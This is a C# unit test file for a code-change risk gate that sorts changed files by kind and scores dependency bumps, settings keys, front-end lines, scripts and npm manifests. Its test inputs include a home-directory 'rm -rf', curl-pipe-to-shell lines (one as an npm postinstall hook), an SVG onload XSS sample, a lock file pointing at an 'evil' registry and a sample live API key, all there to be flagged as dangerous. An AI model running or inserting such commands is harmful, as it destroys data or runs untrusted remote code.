using AutoMode.Gate.Classification;
using AutoMode.Gate.Git;
using AutoMode.Gate.Model;

namespace AutoMode.Cli.Tests.Engine;

/// <summary>The files around the code (issue 21): kinds by path, front-end content, resources, settings, npm, SDK pins, scripts.</summary>
public class SideFileUnitTests
{
    [TestCase("UI/Web/src/app/_services/account.service.ts", FileKinds.FrontEnd)]
    [TestCase("src/WebApp/Components/Pages/User/LogIn.razor", FileKinds.FrontEnd)]
    [TestCase("src/Admin/Views/Users/Index.cshtml", FileKinds.FrontEnd)]
    [TestCase("wwwroot/css/site.scss", FileKinds.Styles)]
    [TestCase("ShareX/Properties/Resources.resx", FileKinds.Resources)]
    [TestCase("Localizations/duplicati/localization-de.po", FileKinds.Resources)]
    [TestCase("Emby.Server.Implementations/Localization/Core/fo.json", FileKinds.Resources)]
    [TestCase("UI/Web/src/assets/langs/en.json", FileKinds.Resources)]
    [TestCase("src/i18n/pt-BR.json", FileKinds.Resources)]
    [TestCase("src/WebApp/wwwroot/images/logo.svg", FileKinds.Images)]
    [TestCase("fonts/open-sans.woff2", FileKinds.Images)]
    [TestCase(".gitignore", FileKinds.EditorSettings)]
    [TestCase(".vscode/launch.json", FileKinds.EditorSettings)]
    [TestCase("src/App/App.csproj.DotSettings", FileKinds.EditorSettings)]
    [TestCase("UI/Web/.eslintrc.json", FileKinds.EditorSettings)]
    [TestCase("tests/Jellyfin.Api.Tests/Test Data/response.json", FileKinds.TestData)]
    [TestCase("src/Foo.Tests/Snapshots/Render.verified.txt", FileKinds.TestData)]
    [TestCase("packages/cli/src/ui/__snapshots__/Prompt.test.tsx.snap", FileKinds.TestData)]
    [TestCase("UI/Web/package.json", FileKinds.NpmManifest)]
    [TestCase("UI/Web/package-lock.json", FileKinds.NpmLock)]
    [TestCase("global.json", FileKinds.SdkPin)]
    [TestCase(".config/dotnet-tools.json", FileKinds.SdkPin)]
    [TestCase("dev/setup_secrets.ps1", FileKinds.DeveloperScript)]
    [TestCase("build.sh", FileKinds.DeveloperScript)]
    [TestCase("deploy/release.sh", FileKinds.Infrastructure)]
    [TestCase(".github/scripts/publish.sh", FileKinds.Infrastructure)]
    [TestCase("src/App/data.json", FileKinds.Other)]
    [TestCase("installer/Setup.iss", FileKinds.Other)]
    public void KindByPath(string path, string kind) => Assert.That(FileKinds.Of(path), Is.EqualTo(kind));

    [TestCase("Serilog.Sinks.File", "5.0.0", "5.0.1", "AMG801", RiskLevel.Low)]
    [TestCase("Humanizer.Core", "2.13.0", "2.14.1", "AMG802", RiskLevel.Low)]
    [TestCase("Humanizer.Core", "2.14.1", "2.13.0", "AMG802", RiskLevel.Medium)] // a minor downgrade
    [TestCase("Microsoft.IdentityModel.Tokens", "8.1.0", "8.2.0", "AMG814", RiskLevel.Medium)]
    [TestCase("Microsoft.IdentityModel.Tokens", "8.1.0", "8.1.2", "AMG801", RiskLevel.Low)] // a sensitive package's patch is its fix
    [TestCase("Npgsql.EntityFrameworkCore.PostgreSQL", "9.0.1", "9.1.0", "AMG814", RiskLevel.Medium)]
    [TestCase("Polly", "8.2.0", "8.5.0", "AMG816", RiskLevel.Medium)]
    [TestCase("Moq", "4.18.4", "4.20.1", "AMG815", RiskLevel.Medium)]
    [TestCase("Moq", "4.20.2", "4.20.72", "AMG801", RiskLevel.Low)]
    [TestCase("Swashbuckle.AspNetCore", "9.0.4", "10.1.0", "AMG803", RiskLevel.High)]
    [TestCase("Swashbuckle.AspNetCore", "10.1.0", "10.2.0-preview.1", "AMG804", RiskLevel.High)]
    [TestCase(PackageVersions.DotNetSdk, "10.0.301", "10.0.302", "AMG801", RiskLevel.Low)]
    [TestCase(PackageVersions.DotNetSdk, "10.0.302", "10.0.400", "AMG814", RiskLevel.Medium)] // a new feature band: new compiler
    public void BumpsByWhatTheyChange(string id, string from, string to, string rule, RiskLevel risk)
    {
        var finding = DependencyClassifier.Bump(File("Directory.Packages.props", "", ""), 1, id, from, to, DependencyRules.Default);
        Assert.That((finding.RuleId, finding.Risk), Is.EqualTo((rule, risk)), finding.Message);
    }

    [Test]
    public void OwnPackagesAreLowAndEditorConfigExtendsBothLists()
    {
        var rules = new DependencyRules(["Jellyfin.*"], sensitiveOption: "Contoso.Crypto*, Acme.Payments", ownOption: "Contoso.Shared.*");
        Assert.Multiple(() =>
        {
            Assert.That(Bump("Jellyfin.XmlTv", "10.8.0", "10.11.0", rules).RuleId, Is.EqualTo(GateRules.OwnPackageUpdate.Id));
            Assert.That(Bump("Contoso.Shared.Logging", "1.2.0", "1.3.0", rules).RuleId, Is.EqualTo(GateRules.OwnPackageUpdate.Id));
            Assert.That(Bump("Jellyfin.XmlTv", "10.8.0", "11.0.0", rules).RuleId, Is.EqualTo(GateRules.MajorBump.Id), "a major bump stays High, own or not");
            Assert.That(Bump("Contoso.Crypto.Core", "1.2.0", "1.3.0", rules).Message, Does.Contain(DependencyRules.SensitiveKey));
            Assert.That(Bump("Acme.Payments", "1.2.0", "1.3.0", rules).Risk, Is.EqualTo(RiskLevel.Medium));
            Assert.That(Bump("Acme.Payments", "1.2.0", "1.3.0", DependencyRules.Default).Risk, Is.EqualTo(RiskLevel.Low));
        });
    }

    [Test]
    public void OwnPackagesComeFromTheRepositorysProjectNames()
    {
        var root = Path.Combine(Path.GetTempPath(), "automode-own-" + Guid.NewGuid().ToString("N")[..8]);
        try
        {
            Directory.CreateDirectory(Path.Combine(root, "src", "Jellyfin.Api"));
            System.IO.File.WriteAllText(Path.Combine(root, "src", "Jellyfin.Api", "Jellyfin.Api.csproj"), "<Project />");
            Directory.CreateDirectory(Path.Combine(root, "src", "Microsoft.Extensions.Fork"));
            System.IO.File.WriteAllText(Path.Combine(root, "src", "Microsoft.Extensions.Fork", "Microsoft.Extensions.Fork.csproj"), "<Project />");
            var rules = DependencyRules.ForRepository(root, null, null);
            Assert.That(rules.IsOwn("Jellyfin.XmlTv"), Is.True);
            Assert.That(rules.IsOwn("Microsoft.Extensions.Fork"), Is.True);
            Assert.That(rules.IsOwn("Microsoft.Extensions.Logging"), Is.False, "a platform prefix is not the repository's");
        }
        finally
        {
            Directory.Delete(root, true);
        }
    }

    [Test]
    public void OnlyProjectReferencesChangedIsLow()
    {
        var findings = DependencyClassifier.Classify(
            File("src/Api/Api.csproj", "<Project><ItemGroup><ProjectReference Include=\"../Core/Core.csproj\" /></ItemGroup></Project>",
                "<Project><ItemGroup><ProjectReference Include=\"../Core/Core.csproj\" /><ProjectReference Include=\"../Auth/Auth.csproj\" /></ItemGroup></Project>"),
            DependencyRules.Default).ToList();
        Assert.That(findings.Select(f => (f.RuleId, f.Risk)), Is.EqualTo(new[] { (GateRules.ProjectReferenceChange.Id, RiskLevel.Low) }));
    }

    [TestCase("{\"Logging\":{\"LogLevel\":{\"Default\":\"Information\"}}}", "{\"Logging\":{\"LogLevel\":{\"Default\":\"Warning\"}}}", "AMG813", RiskLevel.Low, "Logging:LogLevel:Default")]
    [TestCase("{\"Import\":{\"Limit\":100}}", "{\"Import\":{\"Limit\":100,\"FolderLimit\":200}}", "AMG813", RiskLevel.Low, "Import:FolderLimit")]
    [TestCase("{}", "{\"ConnectionStrings\":{\"Db\":\"Server=db;Integrated Security=true\"}}", "AMG811", RiskLevel.Medium, "ConnectionStrings:Db")]
    [TestCase("{\"Cors\":{\"Origins\":[\"https://a\"]}}", "{\"Cors\":{\"Origins\":[\"https://a\",\"https://b\"]}}", "AMG811", RiskLevel.Medium, "Cors:Origins:1")]
    [TestCase("{\"Jwt\":{\"Issuer\":\"a\"}}", "{\"Jwt\":{\"Issuer\":\"b\"}}", "AMG811", RiskLevel.Medium, "Jwt:Issuer")]
    [TestCase("{\"Kestrel\":{\"Certificates\":{\"Default\":{\"Path\":\"a.pfx\"}}}}", "{\"Kestrel\":{\"Certificates\":{\"Default\":{\"Path\":\"b.pfx\"}}}}", "AMG811", RiskLevel.Medium, "Kestrel:Certificates:Default:Path")]
    [TestCase("{\"Rules\":{\"Feed\":\"https://old.example.org/x\"}}", "{\"Rules\":{\"Feed\":\"https://new.example.org/x\"}}", "AMG811", RiskLevel.Medium, "Rules:Feed")]
    [TestCase("{\"Ollama\":{\"Model\":\"a\"}}", "{\"Ollama\":{\"Endpoint\":\"\",\"Model\":\"a\"}}", "AMG813", RiskLevel.Low, "Ollama:Endpoint")] // an empty address is no address
    [TestCase("{\"Db\":{\"EnableSensitiveDataLogging\":false}}", "{\"Db\":{\"EnableSensitiveDataLogging\":true}}", "AMG811", RiskLevel.Medium, "EnableSensitiveDataLogging")]
    [TestCase("{\"Import\":{\"CiphersLimitation\":{\"Limit\":1}}}", "{\"Import\":{\"CiphersLimitation\":{\"Limit\":1,\"Folders\":2}}}", "AMG813", RiskLevel.Low, "CiphersLimitation:Folders")]
    [TestCase("{\"Shipping\":{\"DefaultCarrier\":\"ups\"}}", "{\"Shipping\":{\"DefaultCarrier\":\"dhl\"}}", "AMG811", RiskLevel.Medium, "Shipping:DefaultCarrier")] // an existing value changes behaviour now
    public void AppSettingsByKey(string before, string after, string rule, RiskLevel risk, string key)
    {
        var file = File("src/Api/appsettings.json", before, after);
        var finding = ConfigurationClassifier.Classify(file, LineChanges.Compute(before, after), _ => null).OrderByDescending(f => f.Risk).First();
        Assert.That((finding.RuleId, finding.Risk), Is.EqualTo((rule, risk)), finding.Message);
        Assert.That(finding.Message, Does.Contain(key));
    }

    [Test]
    public void FeatureFlagsMarkedInEditorConfigAreSensitive()
    {
        const string before = "{\"FeatureManagement\":{\"Search\":true}}";
        const string billing = "{\"FeatureManagement\":{\"Search\":true,\"NewBilling\":true}}";
        const string dark = "{\"FeatureManagement\":{\"Search\":true,\"DarkMode\":true}}";
        var marked = ConfigurationClassifier.Classify(File("appsettings.json", before, billing), LineChanges.Compute(before, billing), key => key == AppSettingsKeys.SensitiveKey ? "FeatureManagement:NewBilling" : null).Single();
        var unmarked = ConfigurationClassifier.Classify(File("appsettings.json", before, dark), LineChanges.Compute(before, dark), key => key == AppSettingsKeys.SensitiveKey ? "FeatureManagement:NewBilling" : null).Single();
        Assert.That((marked.Risk, unmarked.Risk), Is.EqualTo((RiskLevel.Medium, RiskLevel.Low)));
        Assert.That(marked.Message, Does.Contain(AppSettingsKeys.SensitiveKey));
    }

    [TestCase("el.innerHTML = message;", true)]
    [TestCase("<p [innerHTML]=\"t('repo') | safeHtml\"></p>", true)]
    [TestCase("const token = localStorage.getItem('jwt');", true)]
    [TestCase("apiUrl: 'https://api.contoso.com/',", true)]
    [TestCase("return this.http.post(this.baseUrl + 'server/cleanup', {});", false)]
    [TestCase("<a href=\"https://github.com/org/repo\">repo</a>", false)]
    [TestCase("// see https://contoso.com/auth for the login flow", false)]
    [TestCase("const totalPages = Math.ceil(totalScroll / pageSize);", false)]
    [TestCase("<span class=\"author\">{{book.author}}</span>", false)]
    [TestCase("@attribute [Authorize(Roles = \"Admin\")]", true)]
    public void FrontEndLines(string line, bool sensitive) => Assert.That(FrontEndChanges.What(line), sensitive ? Is.Not.Null : Is.Null);

    [Test]
    public void AFrontEndTokenOnBothSidesOfTheChangeIsContext()
    {
        const string before = "chatState = new ChatState(catalog, auth.User, nav, kernel);\n";
        const string after = "chatState = new ChatState(catalog, auth.User, kernel);\n";
        Assert.That(FrontEndChanges.Find(File("Chatbot.razor", before, after), LineChanges.Compute(before, after)), Is.Null);
        Assert.That(FrontEndChanges.Find(File("auth.guard.ts", "a\n", "b\n"), LineChanges.Compute("a\n", "b\n")), Is.Not.Null, "a file named for auth is sensitive");
    }

    [TestCase(".gitignore", "bin/\n*.pfx\n", "bin/\n", RiskLevel.Medium)]
    [TestCase(".gitignore", "*.override.env\n", "*.override.env\n.DS_Store\n", RiskLevel.Low)]
    [TestCase("logo.svg", "<svg></svg>\n", "<svg onload=\"alert(1)\"></svg>\n", RiskLevel.Medium)]
    [TestCase("logo.svg", "<svg><path d=\"M0\"/></svg>\n", "<svg><path d=\"M1\"/></svg>\n", RiskLevel.Low)]
    [TestCase("Resources.de.resx", "<root></root>\n", "<root><data name=\"Title\"><value>Titel</value></data></root>\n", RiskLevel.Low)]
    [TestCase("site.css", "a { color: red; }\n", "a { color: blue; }\n", RiskLevel.Low)]
    public void SideFilesByContent(string path, string before, string after, RiskLevel risk)
    {
        var file = File(path, before, after);
        var findings = SideFiles.Classify(file, FileKinds.Of(path), LineChanges.Compute(before, after), DependencyRules.Default).ToList();
        Assert.That(findings.Max(f => f.Risk), Is.EqualTo(risk), string.Join("; ", findings.Select(f => f.Message)));
    }

    [Test]
    public void AnUnknownKindStaysMediumAndNamesItsExtension()
    {
        var finding = SideFiles.Classify(File("installer/Setup.iss", "a\n", "b\n"), FileKinds.Other, LineChanges.Compute("a\n", "b\n"), DependencyRules.Default).Single();
        Assert.That((finding.RuleId, finding.Risk), Is.EqualTo((GateRules.OtherChange.Id, RiskLevel.Medium)));
        Assert.That(finding.Message, Does.Contain("'.iss'"));
    }

    [Test]
    public void ASecretInAFrontEndFileIsCritical()
    {
        const string after = "export const stripeKey = \"sk_live_51HxQ2bLkdIwHu7ixAbCdEfGhIjKlMnOpQrStUvWxYz0123456789abcdefGHIJ\";\n";
        var findings = SideFiles.Classify(File("src/pay.ts", "", after), FileKinds.FrontEnd, LineChanges.Compute("", after), DependencyRules.Default).ToList();
        Assert.That(findings.Select(f => f.Risk), Does.Contain(RiskLevel.Critical));
    }

    [TestCase("tools/fuzz.sh", "afl-fuzz -i in -o out ./bin/Debug/net9.0/Fuzz\n", "afl-fuzz -i in -o out ./bin/Debug/net10.0/Fuzz\n", RiskLevel.Low)] // the same program, one argument changed
    [TestCase("scripts/clean.sh", "echo cleaning\n", "echo cleaning\nrm -rf ~/\n", RiskLevel.Critical)]
    [TestCase("scripts/setup.ps1", "$Projects = @{\n  Api = \"../src/Api\"\n}\n", "$Projects = @{\n  Api = \"../src/Api\"\n  Seeder = \"../util/Seeder\"\n}\n", RiskLevel.Low)]
    [TestCase("scripts/bootstrap.sh", "set -e\n", "set -e\ncurl -fsSL https://get.example.com/install.sh | sh\n", RiskLevel.Critical)]
    [TestCase("scripts/notes.sh", "# old comment\necho hi\n", "# new comment\necho hi\n", RiskLevel.Low)]
    public void DeveloperScriptsByWhatTheyRun(string path, string before, string after, RiskLevel risk)
    {
        var finding = ScriptCommands.Script(File(path, before, after), LineChanges.Compute(before, after)).Single();
        Assert.That(finding.Risk, Is.EqualTo(risk), finding.Message);
    }

    [TestCase("{\"scripts\":{\"build\":\"npm run cache-langs && ng build\",\"cache-langs\":\"node hash.js\"}}",
        "{\"scripts\":{\"build\":\"npm run cache-locale && ng build\",\"cache-locale\":\"node hash.js\"}}", RiskLevel.Low)]
    [TestCase("{\"scripts\":{\"start\":\"ng serve\"}}", "{\"scripts\":{\"start\":\"ng serve --host 0.0.0.0\"}}", RiskLevel.Medium)]
    [TestCase("{\"scripts\":{\"build\":\"ng build\"}}", "{\"scripts\":{\"build\":\"ng build\",\"postinstall\":\"curl https://x.example.com/i.sh | bash\"}}", RiskLevel.Critical)]
    public void NpmScriptsByTheCommandsTheyAdd(string before, string after, RiskLevel risk)
    {
        var findings = SideFiles.Classify(File("package.json", before, after), FileKinds.NpmManifest, LineChanges.Compute(before, after), DependencyRules.Default).ToList();
        Assert.That(findings.Max(f => f.Risk), Is.EqualTo(risk), string.Join("; ", findings.Select(f => f.Message)));
    }

    [TestCase("\"dependencies\":{\"luxon\":\"^3.4.3\"}", "\"dependencies\":{\"luxon\":\"^3.4.4\"}", "AMG801")]
    [TestCase("\"dependencies\":{\"@microsoft/signalr\":\"^8.0.0\"}", "\"dependencies\":{\"@microsoft/signalr\":\"^7.0.14\"}", "AMG803")]
    [TestCase("\"dependencies\":{\"jsonwebtoken\":\"^9.0.0\"}", "\"dependencies\":{\"jsonwebtoken\":\"^9.1.0\"}", "AMG814")]
    [TestCase("\"devDependencies\":{}", "\"devDependencies\":{\"eslint\":\"^9.0.0\"}", "AMG805")]
    public void NpmDependencies(string before, string after, string rule)
    {
        var (b, a) = ("{" + before + "}", "{" + after + "}");
        var findings = SideFiles.Classify(File("package.json", b, a), FileKinds.NpmManifest, LineChanges.Compute(b, a), DependencyRules.Default).ToList();
        Assert.That(findings.Select(f => f.RuleId), Is.EqualTo(new[] { rule }));
    }

    [Test]
    public void ANpmLockFileResolvingFromAnotherRegistryIsHigh()
    {
        const string before = "{\n  \"packages\": {}\n}\n";
        const string after = "{\n  \"packages\": {\n    \"node_modules/a\": {\n      \"resolved\": \"https://npm.evil.example/a/-/a-1.0.0.tgz\"\n    }\n  }\n}\n";
        var finding = SideFiles.Classify(File("package-lock.json", before, after), FileKinds.NpmLock, LineChanges.Compute(before, after), DependencyRules.Default).Single();
        Assert.That((finding.RuleId, finding.Risk), Is.EqualTo((GateRules.PackageSourceChanged.Id, RiskLevel.High)));
        var safe = after.Replace("npm.evil.example", "registry.npmjs.org");
        Assert.That(SideFiles.Classify(File("package-lock.json", before, safe), FileKinds.NpmLock, LineChanges.Compute(before, safe), DependencyRules.Default).Single().Risk, Is.EqualTo(RiskLevel.Low));
    }

    private static Finding Bump(string id, string from, string to, DependencyRules rules) =>
        DependencyClassifier.Bump(File("Directory.Packages.props", "", ""), 1, id, from, to, rules);

    private static ChangedFile File(string path, string? before, string? after) =>
        new(path, before is null ? ChangeKind.Added : ChangeKind.Modified, null, before, after, false);
}
